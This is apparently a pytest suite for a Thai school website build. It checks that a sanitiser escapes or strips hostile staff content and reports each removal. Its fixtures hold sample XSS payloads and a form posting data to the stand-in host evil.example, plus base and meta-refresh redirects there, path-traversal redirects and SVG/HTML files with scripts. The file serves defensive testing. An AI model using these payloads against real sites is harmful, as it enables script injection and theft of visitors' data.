"""A whole-site build of a copy of the sample site with a hostile
announcement, a hostile official document and active-content files: no live
markup reaches any file of output/, staff text is shown as text, the
internal note is gone, and the log names each file in Thai."""

from __future__ import annotations

import gzip
import re
import shutil
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from content_check_run import annotations, run_content_check
from sitebuild import ROOT, build_site

HOSTILE_TITLE = '</title><script>alert(1)</script>" onmouseover="x'
NOTE = "บันทึกภายในห้ามเผยแพร่"

ANNOUNCEMENT = f"""\
Title: {HOSTILE_TITLE}
Date: ๒๕ พฤศจิกายน ๒๕๖๙
Group: dlict
Tags: <img src=x onerror=alert(2)>, "><svg onload=alert(3)>
Summary: สรุป <script>alert(4)</script> <a href="javascript:alert(5)">คลิก</a>
Attachments: files/documents/2569-order-456-website-team.pdf | <script>alert(6)</script>"><b>ป้าย</b>
Redirect_from: news/hostile-old/

ย่อหน้าแรกของข่าว <script>alert(7)</script>

<img src="/images/executives/placeholder.png" alt="ภาพ" onerror="alert(8)">

[คลิกที่นี่](javascript:alert(9))

<iframe src="https://www.youtube.com/embed/abc"></iframe>

<form action="https://evil.example/steal"><input name="id"><button>ส่ง</button></form>

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<style>body {{ display: none }}</style>

<p style="position:fixed">ข้อความ</p>

<!-- {NOTE}: โทรหาผู้อำนวยการก่อนประกาศ -->

ย่อหน้าสุดท้าย
"""

DOCUMENT = """\
Title: ประกาศทดสอบ <b>ตัวหนา</b>
Doc_type: ประกาศ
Date: ๒๖ พฤศจิกายน ๒๕๖๙
Group: dlict
To: <script>alert(10)</script>ผู้อำนวยการโรงเรียน
References: "><img src=x onerror=alert(11)>
Redirect_from: https://evil.example/x/
    //evil.example/y/
    news/../../etc/
    news/"><script>alert(12)</script>/
    news/ok-old-document/

ข้อความประกาศ
"""

# (file under content/, what a staff member should upload instead)
ACTIVE_FILES = {
    "files/documents/poster.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(13)</script></svg>',
    "files/documents/form.html": "<html><body><script>alert(14)</script></body></html>",
}
# Named as a picture, holding SVG: refused by image_privacy (not a picture).
DISGUISED = {"images/announcements/photo.png": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(15)"/>'}

# What the site itself may carry (theme, search): everything else is content.
OWN_SCRIPT = re.compile(r"^/(theme/js/|pagefind/)")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    content = root / "content"
    shutil.copytree(ROOT / "content", content)
    (content / "announcements" / "2569-11-25-hostile.md").write_text(ANNOUNCEMENT, encoding="utf-8")
    (content / "documents" / "hostile-notice-2570.md").write_text(DOCUMENT, encoding="utf-8")
    for relative, text in {**ACTIVE_FILES, **DISGUISED}.items():
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    # A preview build (errors reported, pages still written) so the pages can be read.
    build = build_site(root / "output", content=content, extra=("-e", "PROBLEMS_FAIL_BUILD=false"))
    check = run_content_check(content, None, ROOT / "pelicanconf.py")
    return content, build, check


class _Live(HTMLParser):
    """Markup that would run, load, send or redirect in a browser."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        for name, value in attrs.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "data", "formaction") and re.match(
                r"\s*(javascript|vbscript|data):", value, re.IGNORECASE
            ):
                self.found.append(f"<{tag} {name}={value}>")
        if tag == "script" and not OWN_SCRIPT.match(attrs.get("src", "")):
            self.found.append("<script>")
        # The theme's preview of an attached PDF: a frame of the site's own file.
        pdf_preview = tag == "iframe" and re.match(r"^/files/[\w/.-]+\.pdf$", attrs.get("src", ""))
        if tag in ("iframe", "object", "embed", "base", "style", "svg", "frame") and not pdf_preview:
            self.found.append(f"<{tag}>")
        action = attrs.get("action", "")
        if tag == "form" and action and (not action.startswith("/") or action.startswith("//")):
            self.found.append(f"<form action={action}>")  # the theme's forms stay on the site
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            target = attrs.get("content", "").split("url=", 1)[-1]
            if not target.startswith("/") or target.startswith("//"):
                self.found.append(f"<meta refresh {target}>")
        if tag == "img" and "x" == attrs.get("src"):
            self.found.append("<img src=x>")
        if "style" in attrs:
            self.found.append(f"<{tag} style>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data):
        self.comments.append(data)


def live_markup(html: str) -> tuple[list[str], list[str]]:
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found, parser.comments


def _feed_html(path: Path):
    """The HTML inside a feed or other XML file: the text of the elements a
    feed reader renders as HTML (Atom content and summary, RSS description).
    Titles, categories and URLs are plain text there, escaped by XML."""
    for element in ET.parse(path).iter():
        if element.tag.rsplit("}", 1)[-1] in ("content", "summary", "description") and element.text:
            yield element.text


def test_no_file_of_the_site_carries_live_markup_or_the_internal_note(hostile_site):
    _, build, _ = hostile_site
    assert build.returncode == 0, build.log
    problems = {}
    checked = 0
    for path in sorted(build.output.rglob("*")):
        if not path.is_file():
            continue
        relative = path.relative_to(build.output).as_posix()
        if path.suffix in (".html", ".htm") and relative.startswith("admin/"):
            # The CMS page is the site's own application, not content: its
            # scripts are files of the site under their own policy, and
            # tests/cms proves it has no inline script. Content cannot
            # write there (the map of output paths keeps the site's page).
            found = []
        elif path.suffix in (".html", ".htm"):
            found, comments = live_markup(path.read_text(encoding="utf-8"))
            found += [f"comment: {c[:40]}" for c in comments]
        elif path.suffix == ".xml":
            found = []
            for text in _feed_html(path):
                found += live_markup(text)[0]
        elif path.suffix in (".pf_fragment", ".pf_meta", ".pf_index", ".pf_filter"):
            data = gzip.decompress(path.read_bytes()).decode("utf-8", "replace")
            found = [NOTE] if NOTE in data else []
        elif path.suffix in (".json", ".csv", ".txt"):
            found = [NOTE] if NOTE in path.read_text(encoding="utf-8", errors="replace") else []
        else:
            continue
        checked += 1
        raw = path.read_bytes().decode("utf-8", "replace")
        if NOTE in raw:
            found.append(NOTE)
        if found:
            problems[relative] = found
    assert checked > 100
    assert problems == {}


def _page_of(build, marker):
    pages = [p for p in build.html_files() if marker in p.read_text(encoding="utf-8")]
    assert pages, marker
    return pages


def test_a_hostile_title_is_shown_as_text_on_the_page_in_its_title_and_meta_tags(hostile_site):
    _, build, _ = hostile_site
    html = build.page("announcements/2569/11/hostile/")
    escaped = "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#34; onmouseover=&#34;x"
    assert f"<h1>{escaped}</h1>" in html
    assert f"<title>{escaped} — " in html
    assert f'<meta property="og:title" content="{escaped} — ' in html
    # Listings, the register-like archive pages and the redirect page show it as text too.
    for page in ("announcements/", "archives/", "news/hostile-old/", "sitemap/", "tags/"):
        text = build.page(page)
        assert "<script>alert(1)" not in text, page
    assert escaped in build.page("news/hostile-old/")


def test_tags_attachment_labels_to_and_references_are_text(hostile_site):
    _, build, _ = hostile_site
    html = build.page("announcements/2569/11/hostile/")
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "ดาวน์โหลด: &lt;script&gt;alert(6)&lt;/script&gt;&#34;&gt;&lt;b&gt;ป้าย&lt;/b&gt;" in html
    document = next(
        p.read_text(encoding="utf-8")
        for p in build.html_files()
        if "documents/" in p.as_posix()
        and "ประกาศทดสอบ &lt;b&gt;ตัวหนา&lt;/b&gt;</h1>" in p.read_text(encoding="utf-8")
    )
    assert "<dd>&lt;script&gt;alert(10)&lt;/script&gt;ผู้อำนวยการโรงเรียน</dd>" in document
    assert "&#34;&gt;&lt;img src=x onerror=alert(11)&gt;" in document


def test_the_body_keeps_its_text_and_loses_only_the_hostile_markup(hostile_site):
    _, build, _ = hostile_site
    html = build.page("announcements/2569/11/hostile/")
    assert "ย่อหน้าแรกของข่าว" in html and "ย่อหน้าสุดท้าย" in html
    # The picture stays (shown through its right-sized copies), its onerror gone.
    img = re.search(r'<img src="/images/executives/placeholder-\d+w\.\w+"[^>]* alt="ภาพ"[^>]*>', html)
    assert img and "onerror" not in img.group()
    assert "<a>คลิกที่นี่</a>" in html
    assert "<p>ข้อความ</p>" in html


def test_build_and_check_report_each_removal_in_thai_naming_the_file(hostile_site):
    content, build, check = hostile_site
    name = "announcements/2569-11-25-hostile.md"
    assert check.returncode == 1
    found = {(f, code, severity) for f, _, severity, code, _ in annotations(check.stdout, content)}
    for code in ("html-script", "html-event-attribute", "html-script-url", "html-embed", "html-form",
                 "html-base", "html-meta"):  # fmt: skip
        assert (name, code, "error") in found, code
    for code in ("html-style", "html-comment"):
        assert (name, code, "warning") in found, code
    lines = {code: line for f, line, _, code, _ in annotations(check.stdout, content) if f == name}
    source = ANNOUNCEMENT.splitlines()
    assert "<iframe" in source[lines["html-embed"] - 1]
    assert "<form" in source[lines["html-form"] - 1]
    assert "<!--" in source[lines["html-comment"] - 1]
    assert "onerror" in source[lines["html-event-attribute"] - 1]
    # Summary line: its script comes before the body's.
    assert lines["html-script"] == 5
    thai = {code: text for f, _, _, code, text in annotations(check.stdout, content) if f == name}
    assert "ฝังหน้าเว็บ" in thai["html-embed"]
    assert "วิดีโอ (video)" in check.stdout
    # HTML typed into Tags is refused (a tag is also an address and a feed
    # category); in other text fields it is shown as typed, with a warning.
    assert (name, "html-in-tags", "error") in found
    assert (name, "html-in-text-field", "warning") in found
    # The build (make html) reports the same problems.
    assert f"content/{name}".split("/", 1)[1] in build.log
    assert "html-base" in build.log and "html-meta" in build.log


def test_redirect_from_must_be_a_path_on_this_site(hostile_site):
    content, build, check = hostile_site
    name = "documents/hostile-notice-2570.md"
    bad = [
        (line, text)
        for f, line, severity, code, text in annotations(check.stdout, content)
        if f == name and code.startswith("redirect-from")
    ]
    assert sorted(line for line, _ in bad) == [7, 8, 9, 10]
    assert (build.output / "news" / "ok-old-document" / "index.html").exists()
    # Nothing was written outside the site or at another host's path.
    assert not list(build.output.rglob("*evil.example*"))
    assert not (build.output.parent / "etc").exists()


def test_active_content_files_are_refused_and_never_copied(hostile_site):
    content, build, check = hostile_site
    refused = {
        f for f, _, severity, code, _ in annotations(check.stdout, content) if code == "static-active-content"
    }
    assert refused == set(ACTIVE_FILES)
    for relative in DISGUISED:
        assert not (build.output / relative).exists(), relative
    for relative in ACTIVE_FILES:
        assert not (build.output / relative).exists(), relative
        assert relative in build.log
    assert "PNG หรือ JPEG" in check.stdout and "PDF" in check.stdout


def test_the_sample_site_loses_nothing_to_the_sanitiser(site):
    # Legitimate content (tables, figures, footnotes, notices, video cover links) passes untouched:
    # no removal of any kind is reported for it.
    assert "[html-" not in site.log
    assert "static-active-content" not in site.log
    executives = site.page("executives/")
    assert '<figure class="executive">' in executives
    assert re.search(r'<img src="/images/executives/placeholder-\d+w\.\w+"[^>]* alt="ภาพตัวแทน', executives)
